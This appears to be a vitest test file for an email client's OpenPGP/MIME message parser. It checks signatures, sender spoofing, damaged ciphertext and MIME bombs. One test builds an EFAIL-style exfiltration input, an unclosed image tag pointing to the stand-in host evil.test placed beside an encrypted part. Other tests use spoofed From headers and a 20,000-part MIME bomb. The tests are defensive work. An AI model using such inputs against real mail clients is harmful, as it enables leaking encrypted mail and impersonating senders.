import { describe, expect, it } from 'vitest'
import { openMessage } from './open-message.ts'
import {
  bytes,
  encrypt,
  innerEntity,
  keys,
  known,
  lee,
  opened,
  own,
  pgpMime,
  signedPart,
  textPart,
  encryptedPart,
  header,
} from './open-message.fixture.ts'

describe('an encrypted message', () => {
  it('shows subject and text from inside, and who signed', async () => {
    const message = await opened(pgpMime(await encrypt(await innerEntity(), keys.lee)))
    expect(message.protection).toEqual({
      kind: 'openpgp',
      signature: 'good',
      signer: 'Samuel Lee',
      isSignerVerified: true,
    })
    expect(message.envelope.subject).toBe('The true subject')
    expect(message.content.text?.trim()).toBe('The secret text')
    expect(message.wasEncrypted).toBe(true)
  })

  it('without signature names nobody', async () => {
    const message = await opened(pgpMime(await encrypt(await innerEntity(), null)))
    expect(message.protection).toMatchObject({ signature: 'none', signer: null })
  })

  it('signed by a key that nobody accepted names nobody', async () => {
    const message = await opened(pgpMime(await encrypt(await innerEntity(), keys.eve)))
    expect(message.protection).toMatchObject({ kind: 'openpgp', signature: 'unknown-key', signer: null })
  })

  it('C1: signed by the sender, sent by another: nobody is named', async () => {
    const armored = await encrypt(await innerEntity(), keys.lee)
    const message = await opened(pgpMime(armored, { from: ['From: Eve <eve@evil.test>'] }))
    expect(message.protection).toMatchObject({ signer: null })
    expect(message.protection).not.toMatchObject({ signature: 'good' })
  })

  it.each([
    ['two From fields', [`From: ${lee}`, 'From: eve@evil.test']],
    ['two addresses in From', [`From: ${lee}, eve@evil.test`]],
  ])('C1: %s: nobody is named', async (_name, from) => {
    const message = await opened(pgpMime(await encrypt(await innerEntity(), keys.lee), { from }))
    expect(message.protection).toMatchObject({ signer: null })
    expect(message.protection).not.toMatchObject({ signature: 'good' })
  })

  it('C1: a From inside that differs from the one outside is not shown, and nobody is named', async () => {
    const eve = { name: 'Dr. Lee', address: lee }
    const armored = await encrypt(await innerEntity({ from: eve }), keys.eve)
    const message = await opened(pgpMime(armored, { from: ['From: Eve <eve@evil.test>'] }))
    expect(message.envelope.from).toEqual([{ name: 'Eve', address: 'eve@evil.test' }])
    expect(message.envelope.subject).toBe('The true subject')
    expect(message.protection).toMatchObject({ signer: null })
  })

  it('C1: the sender’s certificate over another’s From inside names nobody', async () => {
    const inner = await innerEntity({ from: { name: 'Maria', address: 'maria@mail.test' } })
    const message = await opened(pgpMime(await encrypt(inner, keys.lee)))
    expect(message.protection).toMatchObject({ signature: 'unknown-key', signer: null })
    expect(message.envelope.from).toMatchObject([{ address: lee }])
  })

  it('that was damaged on the way shows nothing of it', async () => {
    const armored = await encrypt(await innerEntity(), keys.lee)
    const lines = armored.split('\n')
    const middle = Math.floor(lines.length / 2)
    lines[middle] = [...(lines[middle] ?? '')].reverse().join('')
    const message = await opened(pgpMime(lines.join('\n')))
    expect(message.protection).toMatchObject({ kind: 'unreadable', code: 'openpgp/damaged' })
    expect(JSON.stringify(message.content)).not.toContain('secret')
  })

  it('for somebody else says which key is missing', async () => {
    const message = await opened(pgpMime(await encrypt(await innerEntity(), keys.lee, keys.eve)))
    expect(message.protection).toMatchObject({ kind: 'unreadable', code: 'openpgp/no-secret-key' })
  })

  it('signed inside as multipart/signed counts as signed (RFC 3156, 6.1)', async () => {
    const inner = bytes(await signedPart(textPart, keys.lee))
    const message = await opened(pgpMime(await encrypt(inner, null)))
    expect(message.protection).toMatchObject({ kind: 'openpgp', signature: 'good', signer: 'Samuel Lee' })
    expect(message.content.text?.trim()).toBe('The signed text')
  })

  it('C1: an inner signature over a part only counts for nothing', async () => {
    const signed = await signedPart(textPart, keys.lee)
    const inner = bytes([
      'Content-Type: multipart/mixed; boundary="mix_1"',
      '',
      '--mix_1',
      ...signed,
      '--mix_1',
      'Content-Type: text/plain',
      '',
      'Pay to my account',
      '--mix_1--',
      '',
    ])
    const message = await opened(pgpMime(await encrypt(inner, null)))
    expect(message.protection).toMatchObject({ signature: 'none', signer: null })
  })
})

describe('our own copy', () => {
  it('is known by our signature', async () => {
    const inner = await innerEntity({ from: { name: 'Dr. Rivera', address: own } })
    const raw = pgpMime(await encrypt(inner, keys.own), { from: [`From: Dr. Rivera <${own}>`] })
    expect((await opened(raw)).protection).toEqual({ kind: 'own-copy' })
  })

  it('C1: is not what somebody else sends in our name', async () => {
    const inner = await innerEntity({ from: { name: 'Dr. Rivera', address: own } })
    const raw = pgpMime(await encrypt(inner, keys.lee), { from: [`From: Dr. Rivera <${own}>`] })
    expect((await opened(raw)).protection).toMatchObject({ kind: 'openpgp', signer: null })
  })
})

describe('a part that is encrypted', () => {
  it('C1: beside plain text is never decrypted, and the message is not called encrypted', async () => {
    const armored = await encrypt(await innerEntity(), keys.lee)
    const raw = bytes([
      ...header({ subject: 'Hello' }),
      'Content-Type: multipart/mixed; boundary="mix_1"',
      '',
      '--mix_1',
      'Content-Type: text/html',
      '',
      '<img src="https://evil.test/?',
      '--mix_1',
      ...encryptedPart(armored),
      '--mix_1--',
      '',
    ])
    const message = await opened(raw)
    expect(message.protection).toEqual({ kind: 'partial' })
    expect(message.wasEncrypted).toBe(false)
    expect(JSON.stringify(message.content)).not.toContain('secret')
  })

  it('C1: below a wrapper of one part alone is not the root', async () => {
    const armored = await encrypt(await innerEntity(), keys.lee)
    const raw = bytes([
      ...header({ subject: 'Hello' }),
      'Content-Type: multipart/mixed; boundary="mix_1"',
      '',
      '--mix_1',
      ...encryptedPart(armored),
      '--mix_1--',
      '',
    ])
    expect((await opened(raw)).protection).toEqual({ kind: 'partial' })
  })
})

describe('ordinary mail', () => {
  it('is called what it is', async () => {
    const raw = bytes([...header({ subject: 'Hello' }), 'Content-Type: text/plain', '', 'Plain', ''])
    const message = await opened(raw)
    expect(message.protection).toEqual({ kind: 'none' })
    expect(message.wasEncrypted).toBe(false)
  })

  it('says when it is too complex', async () => {
    const parts = Array.from({ length: 20_000 }, () => ['--b', '', '']).flat()
    const raw = bytes([
      ...header({ subject: 'Bomb' }),
      'Content-Type: multipart/mixed; boundary=b',
      '',
      ...parts,
    ])
    expect(await openMessage(raw, known)).toMatchObject({ error: { code: 'mime/too-complex' } })
  })
})
